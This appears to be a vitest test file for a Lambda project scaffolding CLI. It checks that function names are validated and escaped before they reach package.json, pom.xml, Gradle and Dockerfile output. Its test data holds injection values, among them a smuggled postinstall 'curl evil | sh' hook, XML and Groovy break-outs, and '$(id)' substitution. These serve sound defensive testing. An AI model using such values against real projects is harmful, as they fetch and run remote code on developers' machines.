import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { groovyString, xmlText } from '../../src/render/escape';
import { projectName, isProjectName } from '../../src/options/validate';
import { writeTree } from '../config/helpers';
import { run, snapshotTree, tempDir } from '../support/run';
import { expectOneLine } from './helpers';

const POSTINSTALL = 'x", "scripts": {"postinstall": "curl evil | sh"}, "y": "';

describe('the function name is validated for every file it lands in, with or without --deploy', () => {
  const hostile = [
    POSTINSTALL,
    'fn</artifactId><build><plugins/></build><artifactId>x',
    "fn' ; println 'owned",
    'fn$(id)',
    'fn\nRUN curl evil',
    '-fn',
    'fn--x',
    'f'.repeat(65),
    'f',
  ];
  for (const runtime of ['nodejs24', 'java21']) {
    for (const name of hostile) {
      it(`${runtime}: --function-name ${JSON.stringify(name).slice(0, 40)} is refused and nothing is written`, async () => {
        const cwd = tempDir();
        const result = await run(['fn', '--runtime', runtime, '--no-lint', `--function-name=${name}`], { cwd });
        expectOneLine(result, 2, /^create-lambda-image: --function-name: ".*" is not a function name; use 2-64 letters and digits/);
        expect(snapshotTree(cwd)).toEqual({});
      });
    }
  }

  it('a functionName from the config is refused with its file and line', async () => {
    const cwd = writeTree({ 'lambda-image.yaml': `runtime: nodejs24\nfunctionName: ${JSON.stringify(POSTINSTALL)}\n` });
    const result = await run(['fn', '--no-lint'], { cwd });
    expectOneLine(result, 2, /lambda-image\.yaml:2: functionName: .* is not a function name/);
    expect(Object.keys(snapshotTree(cwd))).toEqual(['lambda-image.yaml']);
  });

  it('a valid name reaches package.json through a JSON serialiser and the next steps as one word', async () => {
    const cwd = tempDir();
    const result = await run(['fn', '--runtime', 'nodejs24', '--no-lint', '--function-name', 'Orders_API-1'], { cwd });
    expect(result.code).toBe(0);
    expect(JSON.parse(readFileSync(join(cwd, 'fn', 'package.json'), 'utf8'))).toMatchObject({ name: 'Orders_API-1' });
    // The sample's own scripts stay exactly what the template declares: no postinstall slipped in.
    expect(JSON.parse(readFileSync(join(cwd, 'fn', 'package.json'), 'utf8')).scripts).toEqual({ test: 'node --test' });
    expect(result.stdout).toContain('--function-name Orders_API-1 ');
  });
});

describe('a name derived from the folder is always one every tool accepts', () => {
  const folders = ['a', 'My.Function', 'a__b--c', '_x_', '...', 'ÜberFunktion', 'x'.repeat(100), 'fn-', 'Orders API v2'];
  for (const folder of folders) {
    it(`${JSON.stringify(folder)} → ${JSON.stringify(projectName(folder))}`, () => {
      expect(isProjectName(projectName(folder))).toBe(true);
    });
  }

  it('a Java project in a dotted folder gets a valid artifactId and rootProject.name', async () => {
    const cwd = tempDir();
    const maven = await run(['My.Func', '--runtime', 'java21', '--no-lint'], { cwd });
    expect(maven.code).toBe(0);
    expect(readFileSync(join(cwd, 'My.Func', 'pom.xml'), 'utf8')).toContain('<artifactId>my-func</artifactId>');
    const gradle = await run(['g.w', '--runtime', 'java21', '--build-tool', 'gradle', '--no-lint'], { cwd });
    expect(gradle.code).toBe(0);
    expect(readFileSync(join(cwd, 'g.w', 'settings.gradle'), 'utf8').trim()).toBe("rootProject.name = 'g-w'");
  });
});

describe('escapers', () => {
  it('xmlText leaves no markup', () => {
    expect(xmlText(`a<b>&"c'`)).toBe('a&#60;b&#62;&#38;&#34;c&#39;');
  });
  it('groovyString cannot end its quote or the line', () => {
    expect(groovyString("it's \\ $x\n")).toBe("'it\\'s \\\\ $x\\u000a'");
  });
});
